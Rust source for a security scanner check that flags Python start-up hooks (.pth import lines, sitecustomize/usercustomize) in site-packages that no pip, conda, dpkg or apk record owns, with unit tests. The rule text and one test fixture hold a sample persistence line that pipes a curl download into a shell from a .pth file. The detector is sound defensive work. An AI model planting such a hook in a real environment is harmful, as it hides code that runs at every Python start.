//! Start-up hooks in `site-packages`: code that Python runs at every interpreter start without
//! anything importing it.
//!
//! `site.py` reads every `*.pth` file directly in a site directory and `exec`s each line that
//! starts with `import ` or `import\t`; it also imports `sitecustomize` and `usercustomize` when
//! they exist. A hook that no installed package owns is code that bypassed every package check
//! (RECORD, allowlist, mirror): the usual way to persist a payload in an image or environment.
//!
//! Ownership comes from what the package managers recorded: dist-info RECORD files (pip, uv),
//! `conda-meta/*.json` file lists, dpkg's `var/lib/dpkg/info/*.list` and apk's
//! `lib/apk/db/installed`. Owned hooks are left to the RECORD and mirror checks, which see any
//! change to their bytes.
#![warn(
    clippy::indexing_slicing,
    clippy::unwrap_used,
    clippy::arithmetic_side_effects,
    clippy::panic
)]

use std::collections::BTreeSet;

use crate::codes::Code;
use crate::finding::Sink;
use crate::finding::{Finding, Severity};

use super::{base_name, join, metadata, parent_dir, FsView};

pub const STARTUP_HOOK: Code = Code {
    id: "package/startup-hook",
    severity: Severity::High,
    summary: "Code in site-packages runs at every Python start-up and belongs to no installed package.",
    detects: "A `*.pth` file directly in a site-packages or dist-packages directory with a line that starts with `import` (site.py executes such lines), or a `sitecustomize.py`/`usercustomize.py` there, that no dist-info RECORD, conda-meta, dpkg or apk file list owns. virtualenv's and uv's own `_virtualenv.pth` hook is an info note; hooks that may belong to an RPM package (the image has an RPM database) are info notes too.",
    why: "Python runs these lines before any application code, in every process that uses the environment, and no package check covers a file that no package installed: it is the standard way to persist a payload in an image.",
    example: "`usr/local/lib/python3.12/site-packages/init.pth` containing `import os; os.system('curl … | sh')`.",
    remediation: "Remove the file and rebuild the image from vetted packages; find the build step that wrote it.",
    references: &[
        "https://docs.python.org/3/library/site.html",
        "https://packaging.python.org/en/latest/specifications/recording-installed-packages/",
    ],
};

/// apk's database of installed packages and their files (Alpine).
const APK_DB: &str = "lib/apk/db/installed";

/// Whether the inventory needs the content of `path` for the hook check (`.pth` files in a site
/// directory, dpkg and apk file lists).
pub fn wants_content(path: &str) -> bool {
    let base = base_name(path);
    (in_site_dir(path) && has_ext(base, "pth"))
        || (parent_dir(path) == "var/lib/dpkg/info" && has_ext(base, "list"))
        || path == APK_DB
}

fn has_ext(base: &str, ext: &str) -> bool {
    base.rsplit_once('.')
        .is_some_and(|(stem, e)| !stem.is_empty() && e.eq_ignore_ascii_case(ext))
}

/// Whether `path` sits directly in a `site-packages` or `dist-packages` directory.
fn in_site_dir(path: &str) -> bool {
    matches!(
        base_name(parent_dir(path)),
        "site-packages" | "dist-packages"
    )
}

/// The lines of a `.pth` file that `site.py` executes.
pub fn exec_lines(data: &[u8]) -> Vec<String> {
    let text = String::from_utf8_lossy(data);
    let text = text.strip_prefix('\u{feff}').unwrap_or(&text);
    text.lines()
        .filter(|l| l.starts_with("import ") || l.starts_with("import\t"))
        .map(str::to_owned)
        .collect()
}

/// Every path some package manager recorded as installed in `view`.
fn owned_paths(view: &FsView) -> BTreeSet<String> {
    let mut out = BTreeSet::new();
    for (path, f) in &view.files {
        let Some(data) = &f.data else { continue };
        let base = base_name(path);
        let dir = parent_dir(path);
        if base == "RECORD" && base_name(dir).ends_with(".dist-info") {
            let root = parent_dir(dir);
            out.extend(
                metadata::parse_record(data)
                    .into_iter()
                    .filter_map(|e| join(root, &e.path)),
            );
        } else if base_name(dir) == "conda-meta" && has_ext(base, "json") {
            let root = parent_dir(dir);
            if let Ok(v) = serde_json::from_slice::<serde_json::Value>(data) {
                let files = v.get("files").and_then(serde_json::Value::as_array);
                out.extend(
                    files
                        .into_iter()
                        .flatten()
                        .filter_map(serde_json::Value::as_str)
                        .filter_map(|p| join(root, p)),
                );
            }
        } else if dir == "var/lib/dpkg/info" && has_ext(base, "list") {
            out.extend(
                String::from_utf8_lossy(data)
                    .lines()
                    .filter_map(|l| super::normalize_path(l.trim())),
            );
        } else if path == APK_DB {
            // `F:<dir>` opens a directory, each following `R:<file>` is a file in it.
            let text = String::from_utf8_lossy(data);
            let mut current = String::new();
            for line in text.lines() {
                if let Some(d) = line.strip_prefix("F:") {
                    d.clone_into(&mut current);
                } else if let Some(f) = line.strip_prefix("R:") {
                    if let Some(p) = super::normalize_path(&format!("{current}/{f}")) {
                        out.insert(p);
                    }
                }
            }
        }
    }
    out
}

/// Whether the view holds an RPM database (ownership of system files is then unknown here).
fn has_rpm_db(view: &FsView) -> bool {
    view.files
        .keys()
        .any(|p| p.starts_with("var/lib/rpm/") || p.starts_with("usr/lib/sysimage/rpm/"))
}

/// virtualenv's and uv's hook: `_virtualenv.pth` holding exactly `import _virtualenv`.
fn is_virtualenv_hook(base: &str, exec: &[String]) -> bool {
    base == "_virtualenv.pth" && exec.iter().all(|l| l.trim() == "import _virtualenv")
}

/// Reports start-up hooks that no package owns.
pub fn check(view: &FsView, sink: &mut Sink) {
    let candidates: Vec<(&String, &super::ViewFile)> = view
        .files
        .iter()
        .filter(|(p, _)| in_site_dir(p))
        .filter(|(p, _)| {
            let base = base_name(p);
            has_ext(base, "pth") || base == "sitecustomize.py" || base == "usercustomize.py"
        })
        .collect();
    if candidates.is_empty() {
        return;
    }
    let owned = owned_paths(view);
    let rpm = has_rpm_db(view);
    for (path, f) in candidates {
        if owned.contains(path.as_str()) {
            continue;
        }
        let base = base_name(path);
        let (what, exec) = if has_ext(base, "pth") {
            let exec = f.data.as_deref().map(exec_lines).unwrap_or_default();
            if exec.is_empty() {
                continue; // only path entries: no code runs
            }
            (
                format!(
                    "{base} runs {} line(s) at every Python start-up",
                    exec.len()
                ),
                exec,
            )
        } else {
            (
                format!("{base} is imported at every Python start-up"),
                Vec::new(),
            )
        };
        let (severity, why) = if is_virtualenv_hook(base, &exec) {
            (
                Severity::Info,
                "virtualenv's or uv's own hook; `_virtualenv.py` next to it is covered by no RECORD",
            )
        } else if rpm && path.starts_with("usr/lib") {
            (
                Severity::Info,
                "no RECORD owns it and the image has an RPM database, which this check does not read",
            )
        } else {
            (
                STARTUP_HOOK.severity,
                "no installed package (RECORD, conda-meta, dpkg, apk) owns it",
            )
        };
        let mut finding = Finding::new(&STARTUP_HOOK, f.location.clone(), format!("{what}; {why}"))
            .severity(severity);
        if let Some(first) = exec.first() {
            let shown: String = first.chars().take(200).collect();
            finding = finding.evidence("line", shown);
        }
        sink.push(finding);
    }
}

#[cfg(test)]
#[allow(clippy::unwrap_used, clippy::indexing_slicing)]
mod tests {
    use std::sync::Arc;

    use super::*;
    use crate::finding::Location;
    use crate::packages::ViewFile;

    fn view(files: &[(&str, &str)]) -> FsView {
        let mut v = FsView::default();
        for (p, data) in files {
            v.files.insert(
                (*p).to_owned(),
                ViewFile {
                    location: Location::file(*p),
                    size: data.len() as u64,
                    data: wants_content_any(p).then(|| Arc::from(data.as_bytes())),
                    sha256: None,
                    disk: None,
                },
            );
        }
        v
    }

    fn wants_content_any(p: &str) -> bool {
        super::super::wants_content(p)
    }

    fn run(files: &[(&str, &str)]) -> Vec<(Severity, String)> {
        let mut sink = Sink::default();
        check(&view(files), &mut sink);
        sink.findings
            .iter()
            .map(|f| (f.severity, f.location.path.clone()))
            .collect()
    }

    const SP: &str = "usr/local/lib/python3.12/site-packages";

    #[test]
    fn exec_lines_follow_site_py() {
        let l = exec_lines(b"\xef\xbb\xbf/opt/lib\n# import x\nimport os;os.system('id')\n  import y\nimport\tz\nimportlib\n");
        assert_eq!(l, vec!["import os;os.system('id')", "import\tz"]);
    }

    #[test]
    fn orphan_hooks_are_high_and_owned_or_path_only_ones_are_quiet() {
        let evil = format!("{SP}/init.pth");
        let paths = format!("{SP}/extra.pth");
        let owned = format!("{SP}/distutils-precedence.pth");
        let record = format!("{SP}/setuptools-70.0.0.dist-info/RECORD");
        let custom = format!("{SP}/sitecustomize.py");
        let r = run(&[
            (&evil, "import os; os.system('curl x | sh')\n"),
            (&paths, "/opt/app/lib\n"),
            (&owned, "import os; var = 'SETUPTOOLS_USE_DISTUTILS'\n"),
            (&record, "distutils-precedence.pth,sha256=abc,151\n"),
            (&custom, "import evil\n"),
        ]);
        assert_eq!(
            r,
            vec![(Severity::High, evil.clone()), (Severity::High, custom)]
        );
    }

    #[test]
    fn dpkg_and_conda_ownership_and_tool_hooks() {
        let deb = "usr/lib/python3/dist-packages/zope.interface-5.5.2-nspkg.pth";
        let conda = "opt/conda/lib/python3.11/site-packages/matplotlib-nspkg.pth";
        let venv = "app/.venv/lib/python3.12/site-packages/_virtualenv.pth";
        let r = run(&[
            (
                deb,
                "import sys, types, os;has_mfs = sys.version_info > (3, 5)\n",
            ),
            (
                "var/lib/dpkg/info/python3-zope.interface.list",
                "/.\n/usr/lib/python3/dist-packages/zope.interface-5.5.2-nspkg.pth\n",
            ),
            (conda, "import sys, types, os\n"),
            (
                "opt/conda/conda-meta/matplotlib-3.8.0-py311_0.json",
                r#"{"name":"matplotlib","version":"3.8.0","files":["lib/python3.11/site-packages/matplotlib-nspkg.pth"]}"#,
            ),
            (venv, "import _virtualenv\n"),
        ]);
        assert_eq!(r, vec![(Severity::Info, venv.to_owned())]);
    }

    #[test]
    fn apk_ownership() {
        let owned = "usr/lib/python3.12/site-packages/distutils-precedence.pth";
        let orphan = "usr/lib/python3.12/site-packages/x.pth";
        let r = run(&[
            (owned, "import os; var = 'SETUPTOOLS_USE_DISTUTILS'\n"),
            (orphan, "import evil\n"),
            (
                APK_DB,
                "P:py3-setuptools\nV:70.3.0-r0\nF:usr/lib/python3.12/site-packages\nR:distutils-precedence.pth\nR:setuptools.pth\n\n",
            ),
        ]);
        assert_eq!(r, vec![(Severity::High, orphan.to_owned())]);
    }

    #[test]
    fn rpm_images_downgrade_system_hooks_only() {
        let sys = "usr/lib/python3.9/site-packages/x.pth";
        let local = "opt/app/lib/python3.9/site-packages/y.pth";
        let r = run(&[
            (sys, "import a\n"),
            (local, "import b\n"),
            ("var/lib/rpm/rpmdb.sqlite", ""),
        ]);
        assert_eq!(
            r,
            vec![
                (Severity::High, local.to_owned()),
                (Severity::Info, sys.to_owned())
            ]
        );
    }
}
